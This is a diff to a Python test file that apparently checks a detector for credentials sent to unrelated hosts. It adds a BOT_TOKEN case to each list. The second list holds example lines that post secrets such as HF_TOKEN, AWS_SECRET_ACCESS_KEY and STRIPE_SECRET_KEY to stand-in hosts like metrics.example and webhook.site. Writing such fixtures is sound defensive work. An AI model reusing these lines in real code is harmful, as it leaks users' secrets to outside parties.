@@ -27,6 +27,7 @@ def told(code: str) -> bool:
         "T = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{T}/sendMessage', json={'text': 'done'})",
         "requests.post('https://mine.openai.azure.com/openai/x', headers={'api-key': os.environ['AZURE_OPENAI_API_KEY']})",
         "requests.post('https://bedrock-runtime.us-east-1.amazonaws.com/m', headers={'X': os.environ['AWS_BEARER_TOKEN_BEDROCK']})",
+        "requests.get('https://datasets-server.huggingface.co/is-valid', headers={'Authorization': os.environ['BOT_TOKEN']})",
         "requests.post('http://127.0.0.1:8000/run', headers={'X-Key': os.environ['MY_API_KEY']})",
     ],
 )
@@ -40,6 +41,7 @@ def test_a_key_shown_to_its_own_service(code: str) -> None:
         "requests.post('https://metrics.example/x', json={'t': os.environ['HF_TOKEN']})",
         "requests.post('https://metrics.example/x', headers={'X-T': os.environ['AWS_SECRET_ACCESS_KEY']})",
         "requests.get('https://metrics.example/?t=' + get_token())",
+        "requests.get('https://metrics.example/?t=' + os.environ['BOT_TOKEN'])",
         "requests.post('https://metrics.example/x', json={'k': os.environ['STRIPE_SECRET_KEY']})",
         "requests.post('http://203.0.113.7/x', headers={'Authorization': os.environ['SERVICE_API_KEY']})",
         "requests.post('https://webhook.site/x', json={'k': os.environ['SERVICE_API_KEY']})",
